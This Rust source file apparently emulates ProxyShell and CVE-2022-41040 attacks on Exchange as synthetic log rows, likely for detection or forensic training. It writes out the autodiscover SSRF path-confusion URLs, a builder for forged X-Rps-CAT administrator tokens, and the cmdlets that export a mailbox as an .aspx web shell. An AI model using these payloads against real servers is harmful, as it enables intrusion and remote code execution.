//! ProxyShell (CVE-2021-34473, -34523, -31207) and its authenticated successor (CVE-2022-41040).
//! Rows follow the published front-end queries and the back-end logs of a published case study
//! (DebugPrivilege/InsightEngineering, 2016 CU12).

use base64::{Engine, engine::general_purpose::STANDARD};
use model::Stage as Reached;

use super::{Actor, Script, machine, path_of, push_new, seconds, webshell};
use crate::{
    clock::Millis,
    log::Log,
    request::Request,
    sidelogs::{self, Cmdlet, RpsRequest},
    template::literal,
};

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36.";
const PSRP: &str = "Python PSRP Client";
const DECOY: &str = "decoy.example";

/// The confused path: what follows `@` is where the back end is asked.
fn confused(script: &Script<'_>, target: &str, token: &str, status: u16) -> Request {
    let host = &script.host;
    let token = if token.is_empty() { String::new() } else { format!("X-Rps-CAT={token}") };
    let mail = format!("Email=autodiscover/autodiscover.json%3F@{DECOY}");
    let query = format!("@{DECOY}{target}?{token}&{mail}");
    let mut request =
        Request::new(Log::ProxyAutodiscover, &host.mail, "/autodiscover/autodiscover.json")
            .post()
            .query(&literal(&query))
            .proxied(status);
    request.anchor = format!("Smtp~autodiscover/autodiscover.json?@{DECOY}");
    request.hint = "ExplicitLogon-SMTP";
    request.back_stem = Some(literal(target));
    request.back_query = Some(literal(&format!("{token}&{mail}")));
    request.back_user = Some(machine(host));
    request
}

/// A common access token for an invented account: type, name, SID and groups, each after a letter
/// and a length. Seen in public rows; it opens nothing.
fn token(user: &str, sid: &str) -> String {
    let mut bytes = b"V\x01\x00T\x07WindowsC\x00A\x05Basic".to_vec();
    for (tag, text) in [(b'L', user), (b'U', sid)] {
        bytes.push(tag);
        bytes.push(u8::try_from(text.len()).unwrap_or(u8::MAX));
        bytes.extend_from_slice(text.as_bytes());
    }
    let groups = ["S-1-1-0", "S-1-5-2", "S-1-5-11", "S-1-5-15"];
    bytes.push(b'G');
    bytes.extend_from_slice(&(groups.len() as u32).to_le_bytes());
    for group in groups {
        bytes.extend_from_slice(&7_u32.to_le_bytes());
        bytes.push(group.len() as u8);
        bytes.extend_from_slice(group.as_bytes());
    }
    bytes.push(b'E');
    bytes.extend_from_slice(&0_u32.to_le_bytes());
    STANDARD.encode(bytes)
}

/// The whole chain: session, role, export into a web folder, clean-up, use.
pub(super) fn export(script: &mut Script<'_>) {
    script.expect(Reached::CommandsRun, "proxyshell.");
    let chrome = script.stranger("203.0.113.35", CHROME);
    let psrp = Actor { agent: PSRP.to_owned(), ..chrome.clone() };
    push_new(&mut script.truth.user_agents, PSRP);
    let victim = script.people.named(script.plant.mailbox.as_deref()).clone();
    let sid = format!("{}-500", script.host.sid);
    let token = token(&victim.smtp, &sid);
    push_new(&mut script.truth.identities, &victim.smtp);
    push_new(&mut script.truth.identities, "Administrator");
    let page = script.page("/aspnet_client/tkevsn.aspx");
    for (target, ends, takes) in [
        ("/autodiscover/autodiscover.xml", seconds(0, 64), 64),
        ("/mapi/emsmdb/", seconds(1, 180), 96),
    ] {
        let request = confused(script, target, "", 200);
        script.request(&chrome, ends, takes, request, Vec::new());
    }
    let rps = format!("X-Rps-CAT={token}&Email=autodiscover/autodiscover.json%3F@{DECOY}");
    let session = [
        (&chrome, seconds(2, 259), 115, "GET"),
        (&psrp, seconds(42, 901), 101, "POST"),
        (&psrp, seconds(43, 457), 543, "POST"),
        (&psrp, seconds(61, 452), 17_985, "POST"),
        (&psrp, seconds(95, 310), 26_000, "POST"),
    ];
    for (actor, ends, takes, method) in session {
        let request = confused(script, "/powershell/", &token, 200).method(method);
        let row = RpsRequest {
            user: &literal(&victim.smtp),
            agent: &literal(&actor.agent),
            query: &literal(&rps),
            method,
            address: &literal(&actor.person.address),
            status: "200",
        };
        let row = sidelogs::rps_http(&script.host, &row);
        script.request(actor, ends, takes, request, vec![row]);
    }
    cmdlets(script, &psrp, &victim.smtp, &page);
    webshell::use_shell(script, &chrome, &page, seconds(130, 0));
}

fn cmdlets(script: &mut Script<'_>, actor: &Actor, sender: &str, page: &str) {
    let id = script.dice.hex_text(32);
    let file = path_of(&script.host, page);
    let (drive, rest) = file.split_once(':').unwrap_or(("C", &file));
    let share = format!(r"\\127.0.0.1\{}${rest}", drive.to_ascii_lowercase());
    script.truth.written.push(file);
    let local = sender.split('@').next().unwrap_or("");
    let steps = [
        (
            seconds(69, 866),
            7_719,
            "New-ManagementRoleAssignment",
            "-Role \"Mailbox Import Export\" -SecurityGroup \"Organization Management\"".to_owned(),
        ),
        (
            seconds(82, 489),
            12_075,
            "New-MailboxExportRequest",
            format!(
                "-Mailbox \"{local}\" -Name \"{id}\" -ContentFilter \"Subject -eq '{id}'\" -FilePath \"{share}\""
            ),
        ),
        (seconds(92, 455), 48, "Get-MailboxExportRequest", String::new()),
        (seconds(92, 457), 36, "Remove-MailboxExportRequest", "-Confirm \"False\"".to_owned()),
    ];
    let sid = format!("{}-500", script.host.sid);
    for (ends, takes, name, parameters) in steps {
        let row = sidelogs::rps_cmdlet(
            &script.host,
            &Cmdlet {
                user: "Administrator",
                sid: &sid,
                sender: &literal(sender),
                application: "PowerShell",
                name,
                parameters: &literal(&parameters),
                admin: "True",
                result: "Success",
            },
        );
        script.rows(actor, ends, takes, (0, 0), vec![row]);
    }
    let user = format!("{}/Users/Administrator", script.host.domain);
    let audit = sidelogs::audit(
        &script.host,
        &user,
        "New-MailboxExportRequest",
        &[("Mailbox", local), ("FilePath", &share)],
    );
    script.rows(actor, seconds(82, 500), 1, (0, 0), vec![audit]);
}

/// The first question only, refused: 401 by the front end, 404 by the back end.
pub(super) fn probe(script: &mut Script<'_>, status: u16) {
    script.expect(Reached::Attempted, "proxyshell.");
    let actor = script.stranger("192.0.2.61", "python-requests/2.26.0");
    for (number, target) in ["/mapi/nspi/", "/powershell/", "/EWS/exchange.asmx"].iter().enumerate()
    {
        let mut request = confused(script, target, "", status).method("GET");
        if status == 401 {
            request.back = None;
        } else {
            // The path is no longer confused: the back end looks for the file itself.
            request.back_stem = Some("/autodiscover/autodiscover.json".to_owned());
            request.back_query = None;
        }
        let ends = seconds(number as Millis * 2, 31);
        script.request(&actor, ends, 9, request, Vec::new());
    }
}

/// CVE-2022-41040: the same confusion with a stolen account, stopped by a rewrite rule.
pub(super) fn authenticated(script: &mut Script<'_>) {
    script.expect(Reached::Attempted, "proxynotshell.");
    let victim = script.people.named(script.plant.mailbox.as_deref()).clone();
    let address =
        if script.plant.address.is_empty() { "203.0.113.41" } else { &script.plant.address };
    let person = crate::people::Person { address: address.to_owned(), ..victim };
    let actor = script.insider(&person, CHROME);
    for number in 0..script.plant.count.unwrap_or(4) {
        let query =
            format!("a@{DECOY}/PowerShell/?Email=autodiscover/autodiscover.json%3Fa@{DECOY}");
        let mut request = Request::new(
            Log::ProxyAutodiscover,
            &script.host.mail,
            "/autodiscover/autodiscover.json",
        )
        .post()
        .query(&query)
        .by(&script.host, "Basic")
        .status(403);
        request.anchor = String::new();
        script.request(&actor, seconds(Millis::from(number) * 4, 17), 5, request, Vec::new());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_have_the_layout_of_public_rows() {
        let text = token("jo.example@nordwind.example", "S-1-5-21-1-2-3-500");
        assert!(text.starts_with("VgEAVAdXaW5kb3dzQwBBBUJhc2lj"), "{text}");
        let bytes = STANDARD.decode(text).expect("base64");
        let has = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
        assert!(has(b"L\x1bjo.example@nordwind.example"));
        assert!(has(b"U\x12S-1-5-21-1-2-3-500G\x04\x00\x00\x00"));
    }
}
